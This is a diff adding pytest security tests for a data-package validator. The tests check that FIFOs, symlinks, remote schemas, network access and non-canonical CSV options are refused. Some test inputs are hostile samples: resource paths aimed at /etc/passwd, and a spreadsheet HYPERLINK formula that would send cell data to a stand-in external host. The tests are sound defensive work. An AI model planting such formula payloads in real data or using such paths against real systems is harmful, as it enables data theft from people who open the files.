@@ -1,0 +1,371 @@
+"""An untrusted descriptor cannot make the validator read outside the package, block on a
+special file, reach the network or loosen the rules: each attempt is one exact error line."""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from conftest import read_rows, set_cell
+from damage import (
+    csv_path,
+    deadline,
+    descriptor,
+    edit_descriptor,
+    edit_schema,
+    resource,
+    runner,
+    validate_cli,
+)
+from ukraine_talks_data.cli import app
+from ukraine_talks_data.validate import validate_package
+
+pytestmark = pytest.mark.skipif(os.name != "posix", reason="FIFOs, symlinks and SIGALRM")
+
+
+def _actors(package: Path, **changes: Any) -> None:
+    edit_descriptor(package, lambda d: resource(d, "actors").update(changes))
+
+
+# Special files never block or crash --------------------------------------------------------
+
+
+def test_fifo_as_a_table_does_not_hang(package: Path) -> None:
+    os.mkfifo(package.parent / "data" / "pipe.csv")
+    _actors(package, path="data/pipe.csv")
+    with deadline(60):
+        code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        "data/pipe.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
+        "never read)"
+    ]
+
+
+def test_fifo_as_a_seed_does_not_hang(package: Path) -> None:
+    source = read_rows(csv_path(package, "sources"))[0]
+    seed = package.parent / source["path"]
+    seed.unlink()
+    os.mkfifo(seed)
+    with deadline(60):
+        code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        f"data/sources.csv:2:path: source-unreadable: the seed file is not a regular file (a "
+        f"FIFO, socket or device is never read) (value: {source['path']!r})",
+        f"{source['path']}: not-a-file: the path is not a regular file (a FIFO, socket or device "
+        "is never read)",
+    ]
+
+
+def test_symlink_to_dev_zero_is_refused_before_reading(package: Path) -> None:
+    (package.parent / "data" / "zero.csv").symlink_to("/dev/zero")
+    _actors(package, path="data/zero.csv")
+    with deadline(60):
+        code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        "datapackage.json::actors.path: unsafe-path: resource path leads outside the package "
+        "folder (through a symlink) (value: 'data/zero.csv')"
+    ]
+
+
+def test_symlink_inside_the_package_to_a_fifo(package: Path) -> None:
+    os.mkfifo(package.parent / "data" / "pipe")
+    (package.parent / "data" / "link.csv").symlink_to("pipe")
+    _actors(package, path="data/link.csv")
+    with deadline(60):
+        code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        "data/link.csv: not-a-file: the path is not a regular file (a FIFO, socket or device is "
+        "never read)"
+    ]
+
+
+def test_directory_as_a_table(package: Path) -> None:
+    _actors(package, path="data")
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == ["data: not-a-file: the path is a directory, not a file"]
+
+
+def test_descriptor_that_is_a_fifo(tmp_path: Path) -> None:
+    fifo = tmp_path / "datapackage.json"
+    os.mkfifo(fifo)
+    with deadline(60):
+        result = runner.invoke(app, ["validate", str(fifo)])
+    assert (result.exit_code, result.stdout) == (2, "")
+    assert result.stderr == (
+        f"error: {fifo}: is not a regular file (a FIFO, socket or device is never read)\n"
+    )
+
+
+# Nothing reaches the network ------------------------------------------------------------
+
+
+@pytest.fixture
+def no_network(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """Record (and refuse) every attempt to resolve a host or open a connection."""
+    attempts: list[str] = []
+
+    def refuse(*args: object, **kwargs: object) -> None:
+        attempts.append(repr(args[:2]))
+        raise OSError("network use during validation")
+
+    monkeypatch.setattr(socket, "getaddrinfo", refuse)
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    return attempts
+
+
+def test_remote_profiles_are_never_fetched(package: Path, no_network: list[str]) -> None:
+    def remote(d: dict[str, Any]) -> None:
+        d["profile"] = "https://example.org/profile.json"
+        d["$schema"] = "https://example.org/schema.json"
+        resource(d, "actors")["profile"] = "https://example.org/resource.json"
+        resource(d, "actors")["$schema"] = "https://example.org/resource-schema.json"
+
+    edit_descriptor(package, remote)
+    code, lines = validate_cli(package)
+    assert (code, lines) == (0, [])
+    assert no_network == []
+
+
+@pytest.mark.parametrize("key", ["schema", "dialect"])
+def test_remote_schema_or_dialect_is_refused(
+    package: Path, no_network: list[str], key: str
+) -> None:
+    _actors(package, **{key: "https://example.org/actors.json"})
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        f"datapackage.json::actors.{key}: unsafe-path: {key} path is a URL; only files inside "
+        "the package folder are read (value: 'https://example.org/actors.json')"
+    ]
+    assert no_network == []
+
+
+def test_json_schema_constraint_with_a_remote_ref_is_refused(
+    package: Path, no_network: list[str]
+) -> None:
+    edit_schema(
+        package,
+        "actors",
+        lambda s: (
+            s["fields"][-1]["constraints"].__setitem__(
+                "jsonSchema", {"$ref": "https://example.org/x.json"}
+            )
+            if "constraints" in s["fields"][-1]
+            else s["fields"][-1].__setitem__(
+                "constraints", {"jsonSchema": {"$ref": "https://example.org/x.json"}}
+            )
+        ),
+    )
+    last = descriptor_schema_field(package, "actors", -1)
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        f"schemas/actors.json::{last}.constraints.jsonSchema: schema-error: jsonSchema "
+        "constraints are not supported (they can load remote schemas)"
+    ]
+    assert no_network == []
+
+
+def descriptor_schema_field(package: Path, table: str, index: int) -> str:
+    path = package.parent / resource(descriptor(package), table)["schema"]
+    name: str = json.loads(path.read_text())["fields"][index]["name"]
+    return name
+
+
+# Readers other than local UTF-8 CSV are refused, not half-honoured ------------------------
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "message"),
+    [
+        ("compression", "zip", "compressed files are not supported; store the CSV uncompressed"),
+        ("format", "xlsx", "a table must be csv"),
+        ("encoding", "latin-1", "only UTF-8 is supported; convert the file to UTF-8"),
+        ("scheme", "https", "only local files are read (scheme 'file')"),
+        ("innerpath", "/etc/passwd", "files inside archives are not supported"),
+        (
+            "url",
+            "https://example.org/a.csv",
+            "'url' is not supported; give a relative 'path' inside the package",
+        ),
+        ("bytes", "many", "must be a whole number, 0 or more"),
+        (
+            "hash",
+            "md5:zz",
+            "must be 'sha256:' followed by 64 hex digits (or an MD5 in 32 hex digits)",
+        ),
+    ],
+)
+def test_unsupported_resource_keys(package: Path, key: str, value: str, message: str) -> None:
+    _actors(package, **{key: value})
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        f"datapackage.json::actors.{key}: descriptor-error: {message} (value: {value!r})"
+    ]
+
+
+def test_multipart_paths_are_refused(package: Path) -> None:
+    _actors(package, extrapaths=["/etc/passwd"])
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        "datapackage.json::actors.extrapaths: descriptor-error: multipart resources are not "
+        "supported; use one file per resource (value: '[\"/etc/passwd\"]')"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "canonical"),
+    [("commentChar", "S", "null"), ("delimiter", ";", '","'), ("header", False, "true")],
+)
+def test_dialect_other_than_canonical_csv(
+    package: Path, key: str, value: object, canonical: str
+) -> None:
+    _actors(package, dialect={"csv": {key: value}})
+    shown = value if isinstance(value, str) else json.dumps(value)
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        f"datapackage.json::actors.dialect.{key}: dialect-error: must be {canonical}: only the "
+        f"canonical CSV dialect is read (value: {shown!r})"
+    ]
+
+
+def test_resource_name_with_odd_characters(package: Path) -> None:
+    index = next(i for i, r in enumerate(descriptor(package)["resources"]) if r["name"] == "actors")
+    edit_descriptor(package, lambda d: d["resources"][index].__setitem__("name", "Actors\nX"))
+    code, lines = validate_cli(package, "--allow-schema-changes")
+    assert code == 1
+    assert lines[0] == (
+        f"datapackage.json::resources[{index}].name: descriptor-error: a resource name may hold "
+        "only lowercase letters, digits, '-', '.' and '_' (value: 'Actors\\nX')"
+    )
+
+
+# Malformed schemas are errors, not tracebacks --------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("change", "location", "message"),
+    [
+        (
+            lambda s: s["fields"].__setitem__(1, "name"),
+            "fields[1]",
+            "a field must be a JSON object",
+        ),
+        (
+            lambda s: s["fields"][0].__setitem__("constraints", {"pattern": "(("}),
+            "{0}.constraints.pattern",
+            "is not a valid regular expression (missing ), unterminated subpattern at position 1) "
+            "(value: '((')",
+        ),
+        (
+            lambda s: s["fields"][0].__setitem__("type", "object"),
+            "{0}.type",
+            "type is not supported; use one of: string, integer, number, boolean, date, datetime, "
+            "time, year, yearmonth, duration, list, any (value: 'object')",
+        ),
+        (
+            lambda s: s.__setitem__("primaryKey", ["nope"]),
+            "primaryKey",
+            "no field of this name (value: 'nope')",
+        ),
+        (
+            lambda s: s.__setitem__("fields", []),
+            "fields",
+            "a Table Schema needs a non-empty 'fields' list",
+        ),
+        (
+            lambda s: s["fields"][0].__setitem__("constraints", {"minLength": -1}),
+            "{0}.constraints.minLength",
+            "must be a whole number, 0 or more (value: '-1')",
+        ),
+    ],
+    ids=[
+        "field-not-object",
+        "bad-pattern",
+        "json-type",
+        "primary-key",
+        "no-fields",
+        "negative-length",
+    ],
+)
+def test_malformed_schema(package: Path, change: Any, location: str, message: str) -> None:
+    first = descriptor_schema_field(package, "actors", 0)
+    edit_schema(package, "actors", change)
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [f"schemas/actors.json::{location.format(first)}: schema-error: {message}"]
+
+
+# A fork cannot loosen the rules ------------------------------------------------------------
+
+
+def test_loosened_schema_is_reported_and_the_reference_still_applies(package: Path) -> None:
+    def loosen(s: dict[str, Any]) -> None:
+        field = next(f for f in s["fields"] if f["name"] == "quote_type")
+        field["constraints"].pop("enum")
+
+    edit_schema(package, "statements", loosen)
+    number = set_cell(csv_path(package, "statements"), 0, "quote_type", "rumour")
+    code, lines = validate_cli(package)
+    assert code == 1
+    from ukraine_talks_data._version import __version__
+    from ukraine_talks_data.schemas import table_schema
+
+    enum = next(f for f in table_schema("statements")["fields"] if f["name"] == "quote_type")[
+        "constraints"
+    ]["enum"]
+    assert lines == [
+        f"data/statements.csv:{number}:quote_type: constraint-error: must be one of: "
+        f"{', '.join(enum)} (value: 'rumour')",
+        "schemas/statements.json::quote_type.constraints.enum: schema-changed: is missing; the "
+        f"reference schema has {json.dumps(enum)} (ukraine-talks-data {__version__}; "
+        "--allow-schema-changes skips this for a derived package)",
+    ]
+    assert validate_cli(package, "--allow-schema-changes") == (0, [])
+
+
+def test_dropped_table_is_reported(package: Path) -> None:
+    edit_descriptor(
+        package,
+        lambda d: d.__setitem__(
+            "resources", [r for r in d["resources"] if r["name"] != "evidence"]
+        ),
+    )
+    code, lines = validate_cli(package)
+    assert code == 1
+    assert lines == [
+        "datapackage.json::evidence: missing-resource: the package has no table of this name; "
+        "the reference package has it"
+    ]
+
+
+# Spreadsheet formulas: a warning, not an error ---------------------------------------------
+
+
+def test_formula_in_a_text_cell_is_a_warning(package: Path) -> None:
+    formula = '=HYPERLINK("https://example.org/?"&A1,"click")'
+    number = set_cell(csv_path(package, "actors"), 0, "notes", formula)
+    code, lines = validate_cli(package)
+    assert code == 0
+    assert lines == [
+        f"data/actors.csv:{number}:notes: warning: formula-injection: a spreadsheet opening this "
+        "CSV would run the cell as a formula; reword it so it does not start with '=', '+', '-' "
+        f"or '@' (exports prefix such cells with ') (value: {formula!r})"
+    ]
+    report = validate_package(package)
+    assert report.valid
+    assert [(i.code, i.severity) for i in report.issues] == [("formula-injection", "warning")]
